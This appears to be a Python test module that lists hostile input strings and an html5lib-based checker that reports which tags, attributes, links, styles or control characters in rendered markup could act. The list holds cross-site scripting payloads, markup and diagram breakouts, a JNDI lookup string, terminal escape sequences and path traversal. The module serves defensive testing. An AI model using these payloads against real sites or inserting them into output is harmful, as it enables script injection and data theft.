"""Hostile texts, and the oracle that reads markup as a browser does and tells what in it could act."""

from __future__ import annotations

import re
from typing import Any, Final
from xml.etree.ElementTree import Element

import html5lib

#: Texts that break out of markup, scripts, quotes, comments, DOT and terminals where they are not made harmless.
TEXTS: Final[tuple[str, ...]] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</text><script>alert(1)</script>",
    "</style><script>x</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt\t:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'x" onmouseover="alert(1)',
    "x' onclick='alert(1)",
    "`onfocus=alert(1) autofocus",
    "&lt;script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<form action=/api/contents method=post>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content=0;url=//evil>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '{{constructor.constructor("alert(1)")()}}',
    "${alert(1)}",
    "%3Cscript%3E",
    "\u202egnp.exe",
    "\x00\x08<b>",
    "\x1b]8;;http://evil\x07x\x1b]8;;\x07",
    "\ud800",
    "A" * 5_000,
    "a\nb\rc",
    "</textarea><script>",
    "</title><script>alert(1)</script>",
    "</pre></code></details></summary><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil>",
    "<!--[if gte IE 4]><script>",
    '<a href="vbscript:msgbox">x',
    'step"];evil [URL="javascript:alert(1)"];"',
    '<<TABLE HREF="javascript:alert(1)"><TR><TD>x</TD></TR></TABLE>>',
    "\\N\\G\\E",
    'x"]\nclick A "javascript:alert(1)"',
    '%%{init: {"securityLevel":"loose"}}%%',
    "end\nsubgraph",
    "..\\..\\",
    "${jndi:ldap://x}",
)

#: What the package's markup is made of; anything else came from data.
_TAGS: Final = """
    html head meta title body main header footer section article nav div span p b h1 h2 h3 h4 ul ol li dl dt dd
    table thead tbody tr th td pre code strong em small del ins br hr details summary figure figcaption style
    svg g rect circle path text tspan defs a
"""
_ATTRIBUTES: Final = """
    class id role title lang charset name content viewbox width height x y rx ry cx cy r d transform fill xmlns open
    scope colspan rowspan tabindex href font-size text-anchor points start value datetime preserveaspectratio
"""
TAGS: Final = frozenset(_TAGS.split())
ATTRIBUTES: Final = frozenset(_ATTRIBUTES.split())
_LINK = re.compile(r"^(#|https?://)", re.IGNORECASE)
_STYLE = re.compile(r"url\s*\(|expression|@import|javascript:|behavior", re.IGNORECASE)


def unsafe(markup: str) -> list[str]:
    """What could act in the markup; empty if nothing."""
    tree: Any = html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)
    return [fault for element in tree.iter() for fault in _faults(element)] + _characters(markup)


def _faults(element: Element) -> list[str]:
    tag = _bare(element.tag) if isinstance(element.tag, str) else "comment"
    faults = [] if tag in TAGS else [f"<{tag}>"]
    if tag == "style" and _STYLE.search(element.text or ""):
        faults.append("a style sheet that loads or runs something")
    for key, value in element.attrib.items():
        name = _bare(key).lower()
        if name == "http-equiv" and value == "Content-Security-Policy":
            continue  # the page's own, which forbids; any other of the kind commands
        if name not in ATTRIBUTES and not name.startswith(("data-", "aria-")):
            faults.append(f"{name}=")
        if name == "href" and not _LINK.match(value.strip()):
            faults.append(f"href={value[:20]}")
    return faults


def _bare(name: str) -> str:
    return name.rpartition("}")[2]


def _characters(markup: str) -> list[str]:
    """Characters that hide, reorder or control, or that no file can hold."""
    found = sorted({character for character in markup if not character.isprintable() and character not in "\n\t "})
    return [f"U+{ord(character):04X}" for character in found]
